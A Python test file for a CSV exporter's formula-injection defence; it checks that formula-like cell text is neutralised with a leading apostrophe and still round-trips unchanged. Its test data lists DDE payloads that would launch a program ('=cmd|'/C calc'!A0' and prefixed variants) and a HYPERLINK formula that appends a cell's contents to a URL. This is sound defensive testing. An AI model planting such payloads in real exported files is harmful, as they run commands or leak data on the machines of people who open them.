"""What a spreadsheet would run, it shows instead; and nothing of the text is lost."""

import csv
import io

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from generator.outlets.spreadsheet_text import inert_text
from generator.outlets.table_csv import render_csv
from generator.views.table import Column, ColumnType, Table
from tests.spreadsheets import plain_text

FORMULAS = (
    "=1+1",
    '=HYPERLINK("https://example.org/?"&A1,"see")',
    "=cmd|'/C calc'!A0",
    "+1+cmd|'/C calc'!A0",
    "-2+3+cmd|'/C calc'!A0",
    "@SUM(1+9)*cmd|'/C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "   =1+1",
    "\u00a0=1+1",
    "'=1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(1)",
    "-",
    "=",
)
HARMLESS = ("Ada", "1+1", "a=b", "me@example", "'tis", "", "–2", "naïve", "[1]", '"quoted"')


@pytest.mark.parametrize("text", FORMULAS)
def test_a_formula_becomes_text_and_text_again(text):
    assert inert_text(text)[0] == "'"
    assert plain_text(inert_text(text)) == text


@pytest.mark.parametrize("text", HARMLESS)
def test_harmless_text_stays_as_it_is(text):
    assert inert_text(text) == text == plain_text(text)


@settings(deadline=None)
@given(st.text() | st.text(alphabet="'=+-@\t\r\n a", max_size=6))
def test_any_text_comes_back(text):
    cell = inert_text(text)
    assert plain_text(cell) == text
    assert not cell.lstrip().startswith(tuple("=+-@＝＋－＠"))


def table(*columns: tuple[str, ColumnType], rows: tuple[tuple[object, ...], ...]) -> Table:
    return Table(
        name="things",
        description="",
        key=(),
        references=(),
        columns=tuple(Column(name=name, type=type_, title="", description="") for name, type_ in columns),
        rows=rows,
    )


def test_numbers_stay_numbers_and_each_row_stays_one():
    rows = ((-2, -0.5, 3.0, True, "=1", ("=2", 'a"b'), None), (0, 0.1, 1e-9, False, "a\rb", (), "a\nb"))
    types = (
        ColumnType.WHOLE,
        ColumnType.NUMBER,
        ColumnType.NUMBER,
        ColumnType.TRUTH,
        ColumnType.TEXT,
        ColumnType.LIST,
        ColumnType.TEXT,
    )
    text = render_csv(table(*((f"c{number}", type_) for number, type_ in enumerate(types)), rows=rows))
    assert list(csv.reader(io.StringIO(text, newline="")))[1:] == [
        ["-2", "-0.5", "3", "true", "'=1", '["=2", "a\\"b"]', ""],
        ["0", "0.1", "1e-09", "false", "a\rb", "[]", "a\nb"],
    ]
